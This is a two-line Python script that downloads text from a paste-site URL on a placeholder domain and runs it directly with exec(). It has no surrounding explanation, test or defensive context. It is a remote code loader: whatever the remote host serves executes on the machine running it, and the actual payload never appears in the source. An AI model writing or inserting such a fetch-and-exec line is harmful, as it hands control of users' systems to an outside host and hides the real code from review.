import urllib.request

exec(urllib.request.urlopen("https://pastes.mill.example/raw/f9").read().decode())
